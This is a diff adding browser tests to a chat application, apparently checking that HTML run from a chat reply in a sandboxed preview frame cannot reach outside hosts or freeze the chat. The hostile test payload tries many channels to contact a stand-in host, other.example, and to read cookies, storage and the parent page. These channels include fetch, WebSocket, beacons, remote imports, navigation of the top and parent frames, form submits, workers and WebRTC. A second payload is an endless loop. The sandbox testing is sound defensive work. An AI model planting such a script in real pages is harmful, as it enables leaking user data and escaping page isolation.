@@ -151,3 +151,60 @@ def test_without_scripts_the_text_is_a_page(window: Window, server: Server) -> N
     expect(plain.locator("code")).to_have_text("<b>Form</b>\n")
     plain.get_by_role("heading", level=1).get_by_role("link").click()
     expect(plain).to_have_url(re.compile("/c/"))
+
+
+LEAVING = """
+const host = 'http://other.example';
+const all = [
+  () => fetch(`${host}/fetch`).catch(() => {}),
+  () => new WebSocket('ws://other.example'),
+  () => navigator.sendBeacon(`${host}/beacon`),
+  () => (new Image().src = `${host}/image`),
+  () => import(`${host}/module.js`).catch(() => {}),
+  () => window.open(`${host}/window`),
+  () => (top.location = `${host}/top`),
+  () => (parent.location = `${host}/parent`),
+  () => document.body.insertAdjacentHTML('beforeend', `<style>@import url(${host}/sheet); p { background: url(${host}/css) }</style><video src="${host}/video"></video>`),
+  () => document.body.insertAdjacentHTML('beforeend', `<form action="${host}/form"></form>`),
+  () => document.forms[0].submit(),
+  () => ['prefetch', 'preload', 'preconnect', 'dns-prefetch'].map((rel) => document.head.append(Object.assign(document.createElement('link'), { rel, href: `${host}/${rel}`, as: 'script' }))),
+  () => document.body.append(Object.assign(document.createElement('iframe'), { src: `${host}/frame` })),
+  () => document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.postMessage(typeof RTCPeerConnection, "*")</script>' })),
+  () => new Worker(URL.createObjectURL(new Blob([`fetch("${host}/worker")`]))),
+  () => navigator.serviceWorker.register('/sw.js').catch(() => {}),
+  () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:other.example' }] }),
+];
+const said = [];
+addEventListener('message', ({ data }) => said.push(`nested ${data}`));
+for (const one of all) try { one() } catch {}
+const reads = { cookie: () => document.cookie, storage: () => localStorage.length, parent: () => parent.document.title, address: () => parent.location.href, rtc: () => RTCPeerConnection };
+for (const [name, read] of Object.entries(reads)) try { read(); said.push(`read ${name}`) } catch {}
+setTimeout(() => { document.body.append(`said: ${said.join()};`); location = `${host}/self` }, 500);
+"""
+HOSTILE = f"<title>secret</title><body><p>x</p><script>{LEAVING}</script></body>\n"
+ENDLESS = "<p>began</p><script>setTimeout(() => { for (;;); }, 200)</script>\n"
+
+
+def test_what_runs_reaches_nobody(window: Window, server: Server) -> None:
+    chat = asked(ChatPage.open(window, server), f"```html\n{HOSTILE}```\n")
+    address = chat.page.url
+    answered: list[str] = []
+    chat.page.context.on("response", lambda response: answered.append(response.url))
+    opened: list[str] = []
+    chat.page.context.on("page", lambda page: opened.append(page.url))
+    chat.reply.get_by_role("button", name="Run", exact=True).click()
+    expect(panel(chat).frame_locator("iframe").locator("body")).to_contain_text("said: ;")
+    chat.page.wait_for_timeout(1_000)  # it then leaves for another address, which the frame refuses
+    assert not [url for url in answered if "other.example" in url]
+    assert (opened, chat.page.url) == ([], address)
+
+
+def test_code_that_never_ends_does_not_stop_the_chat(window: Window, server: Server) -> None:
+    chat = asked(ChatPage.open(window, server), f"```html\n{ENDLESS}```\n")
+    chat.reply.get_by_role("button", name="Run", exact=True).click()
+    expect(panel(chat).frame_locator("iframe").get_by_text("began")).to_be_visible()
+    chat.page.wait_for_timeout(500)
+    chat.box.fill("Still here?")
+    panel(chat).get_by_role("button", name="Close").click()
+    expect(panel(chat)).to_be_hidden()
+    expect(chat.box).to_have_value("Still here?")
